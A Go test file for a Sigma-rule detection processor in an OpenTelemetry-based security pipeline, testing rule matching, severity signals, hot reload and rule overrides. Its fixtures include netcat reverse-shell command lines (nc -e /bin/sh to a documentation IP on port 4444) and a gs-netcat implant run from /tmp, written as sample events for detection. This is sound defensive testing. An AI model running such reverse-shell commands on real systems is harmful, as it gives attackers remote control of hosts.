package sigmaprocessor

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"

	"github.com/cairnsec/cairn/internal/event"
	"github.com/cairnsec/cairn/internal/testkit"
)

const (
	tmpRuleID  = "312b42b1-bded-4441-8b58-163a3af58775" // Potentially Suspicious Execution From Tmp Folder
	childRule  = "2fade0b6-7423-4835-9d4f-335b39b83867" // Shell Execution Of Process Located In Tmp Directory
	netcatRule = "7f734ed0-4f47-46c0-837f-6ee62505abd9" // Potential Netcat Reverse Shell Execution
)

func details(t *testing.T, m pcommon.Map) []event.SignalDetail {
	t.Helper()
	rec := plog.NewLogRecord()
	m.CopyTo(rec.Attributes())
	v := event.NewView()
	v.Reset(pcommon.NewResource(), rec)
	var out []event.SignalDetail
	v.SignalDetails(func(d event.SignalDetail) bool {
		out = append(out, d)
		return true
	})
	return out
}

func TestMatchWritesSignalsDetailsAndRules(t *testing.T) {
	f := newFixture(t, defaultConfig(), nil)
	// A binary in /tmp that the kernel runs as root (medium), then a shell
	// it spawns (high); an ordinary process; an event with its own id.
	implant := ecsProcess("/tmp/.x/gs-netcat", args("/tmp/.x/gs-netcat", "-s", "secret", "-liqD"), nil)
	shell := ecsProcess("/bin/bash", args("bash"), parent("/tmp/.x/gs-netcat"))
	quiet := ecsProcess("/usr/sbin/cron", args("/usr/sbin/cron", "-f"), nil)
	withID := ecsProcess("/tmp/x", args("x"), map[string]any{"event.id": "given-id"})
	out := f.send(t, implant, shell, quiet, withID)

	assert.Equal(t, []string{event.SignalSigmaMedium}, testkit.Signals(out[0]))
	assert.Equal(t, []string{tmpRuleID}, sigmaIDs(out[0]))
	d := details(t, out[0])
	require.Len(t, d, 1)
	assert.Equal(t, event.SignalDetail{
		Signal:     event.SignalSigmaMedium,
		Key:        "sigma:" + tmpRuleID,
		Label:      `Sigma rule "Potentially Suspicious Execution From Tmp Folder" by Joseliyo Sanchez, @Joseliyo_Jstnk`,
		Tactics:    []string{"TA0005"},
		Techniques: []string{"T1036"},
	}, d[0])
	rules, _ := testkit.Get(out[0], RulesKey)
	assert.Equal(t, []any{map[string]any{"id": tmpRuleID, "title": "Potentially Suspicious Execution From Tmp Folder",
		"author": "Joseliyo Sanchez, @Joseliyo_Jstnk", "level": "medium"}}, rules.Slice().AsRaw())
	id, ok := testkit.Get(out[0], "event.id")
	require.True(t, ok, "a written event has an id")
	assert.NotEmpty(t, id.Str())
	// The nested document stays nested.
	cairn, ok := out[0].Get("cairn")
	require.True(t, ok)
	assert.Equal(t, pcommon.ValueTypeMap, cairn.Type())

	assert.Equal(t, []string{event.SignalSigmaHigh}, testkit.Signals(out[1]))
	assert.Equal(t, []string{childRule}, sigmaIDs(out[1]))
	assert.Empty(t, testkit.Signals(out[2]))
	_, ok = testkit.Get(out[2], RulesKey)
	assert.False(t, ok, "nothing written on an event no rule matches")

	id, _ = testkit.Get(out[3], "event.id")
	assert.Equal(t, "given-id", id.Str(), "an event's own id is kept")

	assert.Equal(t, int64(4), testkit.Sum(t, f.tel, "otelcol_processor_sigma_events", nil))
	assert.Equal(t, int64(3), testkit.Sum(t, f.tel, "otelcol_processor_sigma_matched_events", nil))
	assert.Equal(t, int64(2), testkit.Sum(t, f.tel, "otelcol_processor_sigma_matches", map[string]string{"level": "medium"}))
	assert.Equal(t, int64(1), testkit.Sum(t, f.tel, "otelcol_processor_sigma_matches", map[string]string{"level": "high"}))
	assert.Equal(t, int64(43), testkit.Sum(t, f.tel, "otelcol_processor_sigma_rules_loaded", nil))
}

func TestSeveralRulesOnOneEvent(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "nc.yml", "nc-any", "low", "selection:\n    Image|endswith: '/nc'\ncondition: selection\n")
	cfg := defaultConfig()
	cfg.RulesDir = dir
	f := newFixture(t, cfg, nil)
	out := f.send(t, ecsProcess("/tmp/nc", args("/tmp/nc", "-e", "/bin/sh", "203.0.113.5", "4444"), nil))
	ids := sigmaIDs(out[0])
	sort.Strings(ids)
	assert.Equal(t, []string{tmpRuleID, netcatRule, "nc-any"}, ids)
	sigs := testkit.Signals(out[0])
	sort.Strings(sigs)
	assert.Equal(t, []string{event.SignalSigmaHigh, event.SignalSigmaLow, event.SignalSigmaMedium}, sigs, "one signal per level")
	var keys []string
	for _, d := range details(t, out[0]) {
		keys = append(keys, d.Key)
	}
	sort.Strings(keys)
	assert.Equal(t, []string{"sigma:" + tmpRuleID, "sigma:" + netcatRule, "sigma:nc-any"}, keys, "one detail per rule")

	// Processed again (a replay of written output): nothing twice.
	ld := plog.NewLogs()
	out[0].CopyTo(ld.ResourceLogs().AppendEmpty().ScopeLogs().AppendEmpty().LogRecords().AppendEmpty().Attributes())
	again, err := f.p.processLogs(context.Background(), ld)
	require.NoError(t, err)
	m := again.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().At(0).Attributes()
	assert.Len(t, details(t, m), 3)
	assert.Len(t, sigmaIDs(m), 3)
}

func TestInformationalRulesRaiseNothing(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "info.yml", "info-1", "informational", "selection:\n    Image|endswith: '/id'\ncondition: selection\n")
	cfg := defaultConfig()
	cfg.RulesDir = dir
	cfg.DefaultRules = false
	f := newFixture(t, cfg, nil)
	assert.Empty(t, sigmaIDs(f.send(t, ecsProcess("/usr/bin/id", args("id"), nil))[0]), "below min_level (low)")

	cfg = defaultConfig()
	cfg.RulesDir = dir
	cfg.DefaultRules = false
	cfg.MinLevel = "informational"
	f = newFixture(t, cfg, nil)
	out := f.send(t, ecsProcess("/usr/bin/id", args("id"), nil))
	assert.Equal(t, []string{"info-1"}, sigmaIDs(out[0]), "recorded for analysts")
	assert.Empty(t, testkit.Signals(out[0]), "but no signal")
	assert.Empty(t, details(t, out[0]))
}

func TestFlatOTelRecords(t *testing.T) {
	// An OTLP sender's record: flat keys, semantic-convention names, no
	// command line but the arguments.
	f := newFixture(t, defaultConfig(), nil)
	ld := plog.NewLogs()
	rec := ld.ResourceLogs().AppendEmpty().ScopeLogs().AppendEmpty().LogRecords().AppendEmpty()
	a := rec.Attributes()
	a.PutEmptySlice("event.category").AppendEmpty().SetStr("process")
	a.PutEmptySlice("event.type").AppendEmpty().SetStr("start")
	a.PutStr("process.executable.path", "/usr/bin/nc")
	args := a.PutEmptySlice("process.command_args")
	for _, s := range []string{"nc", "-e", "/bin/bash", "203.0.113.5", "4444"} {
		args.AppendEmpty().SetStr(s)
	}
	out, err := f.p.processLogs(context.Background(), ld)
	require.NoError(t, err)
	attrs := out.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().At(0).Attributes()
	assert.Equal(t, []string{netcatRule}, sigmaIDs(attrs))
	_, flat := attrs.Get("cairn.signals")
	assert.True(t, flat, "a flat record gets flat keys")
}

// TestScenario: the bundled scenario's four days of fleet activity raise
// nothing but the attack: gs-netcat started from /tmp/.x on web-03 is what
// "Potentially Suspicious Execution From Tmp Folder" is for.
func TestScenario(t *testing.T) {
	f := newFixture(t, defaultConfig(), nil)
	ld := bundledScenario(t)
	out, err := f.p.processLogs(context.Background(), ld)
	require.NoError(t, err)
	var hits []string
	event.Each(out, func(_ pcommon.Resource, rec plog.LogRecord) {
		a := rec.Attributes()
		if ids := sigmaIDs(a); len(ids) > 0 {
			host, _ := testkit.Get(a, "host.name")
			exe, _ := testkit.Get(a, "process.executable")
			hits = append(hits, fmt.Sprintf("%s %s %v", host.Str(), exe.Str(), ids))
		}
	})
	assert.Equal(t, []string{"web-03 /tmp/.x/gs-netcat [" + tmpRuleID + "]"}, hits)
	assert.Equal(t, int64(ld.LogRecordCount()), testkit.Sum(t, f.tel, "otelcol_processor_sigma_events", nil))
}

func writeRule(t *testing.T, dir, name, id, level, detection string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
	doc := fmt.Sprintf("title: Rule %s\nid: %s\nstatus: test\nauthor: Tester\nlevel: %s\ntags: [attack.execution, attack.t1059.004]\n"+
		"logsource:\n    category: process_creation\n    product: linux\ndetection:\n", id, id, level)
	for _, l := range strings.Split(strings.TrimRight(detection, "\n"), "\n") {
		doc += "    " + l + "\n"
	}
	require.NoError(t, os.WriteFile(p, []byte(doc), 0o644))
	return p
}

func observed() (*zap.Logger, *observer.ObservedLogs) {
	core, logs := observer.New(zapcore.InfoLevel)
	return zap.New(core), logs
}

func TestStartErrorsNameTheFile(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "good.yml", "good", "high", "selection:\n    Image|endswith: '/x'\ncondition: selection\n")
	bad := writeRule(t, dir, "sub/bad.yml", "bad", "high", "selection:\n    Image|endswith: '/x'\ncondition: selection and nothing\n")
	cfg := defaultConfig()
	cfg.RulesDir = dir
	_, err := startFixture(t, cfg, nil)
	require.Error(t, err)
	assert.Contains(t, err.Error(), bad)
	assert.Contains(t, err.Error(), "nothing")

	require.NoError(t, os.Remove(bad))
	writeRule(t, dir, "dup.yml", "good", "low", "selection:\n    Image|endswith: '/y'\ncondition: selection\n")
	_, err = startFixture(t, cfg, nil)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "appears twice")

	cfg.RulesDir = filepath.Join(dir, "missing")
	_, err = startFixture(t, cfg, nil)
	assert.ErrorContains(t, err, "rules_dir")
}

func TestUnsupportedRulesAreReported(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "ok.yml", "ok", "high", "selection:\n    Image|endswith: '/x'\ncondition: selection\n")
	writeRule(t, dir, "logon.yml", "logon", "high", "selection:\n    LogonId: 0\ncondition: selection\n")
	require.NoError(t, os.WriteFile(filepath.Join(dir, "win.yml"), []byte("title: W\nid: w\nlevel: high\n"+
		"logsource: {category: process_creation, product: windows}\ndetection: {s: {Image: x}, condition: s}\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "README.md"), []byte("not a rule"), 0o644))
	cfg := defaultConfig()
	cfg.RulesDir = dir
	cfg.DefaultRules = false
	logger, logs := observed()
	f := newFixture(t, cfg, logger)
	assert.Equal(t, 1, f.p.loader.rules().set.Len())
	assert.Equal(t, int64(1), testkit.Sum(t, f.tel, "otelcol_processor_sigma_rules_unsupported", map[string]string{"reason": "field"}))
	assert.Equal(t, int64(1), testkit.Sum(t, f.tel, "otelcol_processor_sigma_rules_unsupported", map[string]string{"reason": "logsource"}))
	reported := map[string]string{}
	for _, e := range logs.FilterMessage("Sigma rule not loaded: unsupported").All() {
		reported[e.ContextMap()["id"].(string)] = e.ContextMap()["reason"].(string)
	}
	assert.Equal(t, map[string]string{"logon": "field", "w": "logsource"}, reported)
}

func TestReload(t *testing.T) {
	dir := t.TempDir()
	cfg := defaultConfig()
	cfg.RulesDir = dir
	cfg.DefaultRules = false
	cfg.ReloadInterval = 0
	cfg.Settle = time.Minute
	writeRule(t, dir, "a.yml", "rule-a", "high", "selection:\n    Image|endswith: '/a'\ncondition: selection\n")
	logger, logs := observed()
	f := newFixture(t, cfg, logger)
	clock := time.Now()
	f.p.loader.now = func() time.Time { return clock }
	hit := func(exe string) []string { return sigmaIDs(f.send(t, ecsProcess(exe, args(exe), nil))[0]) }
	assert.Equal(t, []string{"rule-a"}, hit("/bin/a"))

	// A new file: read once it has settled.
	writeRule(t, dir, "b.yml", "rule-b", "high", "selection:\n    Image|endswith: '/b'\ncondition: selection\n")
	require.NoError(t, f.p.loader.refresh(false))
	assert.Empty(t, hit("/bin/b"), "settling")
	clock = clock.Add(2 * time.Minute)
	require.NoError(t, f.p.loader.refresh(false))
	assert.Equal(t, []string{"rule-b"}, hit("/bin/b"))

	// A broken version: the file's previous rules stay, the error is
	// logged and counted once.
	writeRule(t, dir, "b.yml", "rule-b", "high", "selection:\n    Image|endswith: '/b'\ncondition: selection and\n")
	require.NoError(t, f.p.loader.refresh(false))
	clock = clock.Add(2 * time.Minute)
	require.NoError(t, f.p.loader.refresh(false))
	require.NoError(t, f.p.loader.refresh(false))
	assert.Equal(t, []string{"rule-b"}, hit("/bin/b"))
	assert.Equal(t, int64(1), testkit.Sum(t, f.tel, "otelcol_processor_sigma_load_errors", nil))
	warn := logs.FilterMessage("Sigma rules could not be loaded; the previous rules stay in force").All()
	require.Len(t, warn, 1)
	assert.Contains(t, fmt.Sprint(warn[0].ContextMap()["error"]), "b.yml")

	// A duplicate id across files: the whole new set is refused.
	writeRule(t, dir, "c.yml", "rule-a", "low", "selection:\n    Image|endswith: '/c'\ncondition: selection\n")
	clock = clock.Add(2 * time.Minute)
	require.NoError(t, f.p.loader.refresh(false))
	clock = clock.Add(2 * time.Minute)
	require.NoError(t, f.p.loader.refresh(false))
	assert.Equal(t, []string{"rule-a"}, hit("/bin/a"))
	assert.Empty(t, hit("/bin/c"))
	assert.Equal(t, int64(2), testkit.Sum(t, f.tel, "otelcol_processor_sigma_load_errors", nil))

	// Fixed and the duplicate gone: both changes load.
	require.NoError(t, os.Remove(filepath.Join(dir, "c.yml")))
	writeRule(t, dir, "b.yml", "rule-b2", "high", "selection:\n    Image|endswith: '/b2'\ncondition: selection\n")
	require.NoError(t, f.p.loader.refresh(false))
	clock = clock.Add(2 * time.Minute)
	require.NoError(t, f.p.loader.refresh(false))
	assert.Equal(t, []string{"rule-b2"}, hit("/bin/b2"))
	assert.Empty(t, hit("/bin/b"))

	// A removed file takes its rules with it.
	require.NoError(t, os.Remove(filepath.Join(dir, "a.yml")))
	require.NoError(t, f.p.loader.refresh(false))
	assert.Empty(t, hit("/bin/a"))
}

// TestReloadLoopConfigMap: rules_dir mounted from a ConfigMap, updated by
// the kubelet's ..data swap, through the periodic reload.
func TestReloadLoopConfigMap(t *testing.T) {
	dir := t.TempDir()
	gen := func(name, id, suffix string) {
		g := filepath.Join(dir, name)
		writeRule(t, g, "r.yml", id, "high", "selection:\n    Image|endswith: '"+suffix+"'\ncondition: selection\n")
	}
	gen("..2026_01_01_00_00_00.1", "cm-1", "/one")
	require.NoError(t, os.Symlink("..2026_01_01_00_00_00.1", filepath.Join(dir, "..data")))
	require.NoError(t, os.Symlink(filepath.Join("..data", "r.yml"), filepath.Join(dir, "r.yml")))
	cfg := defaultConfig()
	cfg.RulesDir = dir
	cfg.DefaultRules = false
	cfg.ReloadInterval = 10 * time.Millisecond
	cfg.Settle = 20 * time.Millisecond
	f := newFixture(t, cfg, nil)
	assert.Equal(t, []string{"cm-1"}, sigmaIDs(f.send(t, ecsProcess("/bin/one", args("one"), nil))[0]))
	gen("..2026_01_01_00_05_00.2", "cm-2", "/two")
	require.NoError(t, os.Symlink("..2026_01_01_00_05_00.2", filepath.Join(dir, "..data_tmp")))
	require.NoError(t, os.Rename(filepath.Join(dir, "..data_tmp"), filepath.Join(dir, "..data")))
	require.Eventually(t, func() bool {
		return len(sigmaIDs(f.send(t, ecsProcess("/bin/two", args("two"), nil))[0])) == 1
	}, 10*time.Second, 10*time.Millisecond, "the ConfigMap update was never loaded")
	assert.Empty(t, sigmaIDs(f.send(t, ecsProcess("/bin/one", args("one"), nil))[0]))
}

func TestOverridesExcludeAndStatuses(t *testing.T) {
	dir := t.TempDir()
	// The operator's own copy of a curated rule, stricter.
	writeRule(t, dir, "tmp.yml", tmpRuleID, "low", "selection:\n    Image|startswith: '/tmp/.x/'\ncondition: selection\n")
	exp := writeRule(t, dir, "exp.yml", "exp-1", "high", "selection:\n    Image|endswith: '/exp'\ncondition: selection\n")
	data, err := os.ReadFile(exp)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(exp, []byte(strings.Replace(string(data), "status: test", "status: experimental", 1)), 0o644))
	cfg := defaultConfig()
	cfg.RulesDir = dir
	cfg.Exclude = []string{netcatRule}
	f := newFixture(t, cfg, nil)
	out := f.send(t,
		ecsProcess("/tmp/a", args("a"), nil),
		ecsProcess("/tmp/.x/a", args("a"), nil),
		ecsProcess("/usr/bin/nc", args("nc", "-e", "/bin/sh", "x"), nil),
		ecsProcess("/usr/bin/exp", args("exp"), nil))
	assert.Empty(t, sigmaIDs(out[0]), "the operator's rule replaced the curated one")
	assert.Equal(t, []string{tmpRuleID}, sigmaIDs(out[1]))
	assert.Equal(t, []string{event.SignalSigmaLow}, testkit.Signals(out[1]))
	assert.Empty(t, sigmaIDs(out[2]), "excluded")
	assert.Empty(t, sigmaIDs(out[3]), "experimental is not in the default statuses")
	ls := f.p.loader.rules()
	assert.Equal(t, map[string]int{"overridden": 1, "excluded": 1, "status": 1}, ls.skipped)
	assert.Equal(t, int64(1), testkit.Sum(t, f.tel, "otelcol_processor_sigma_rules_skipped", map[string]string{"reason": "overridden"}))
}
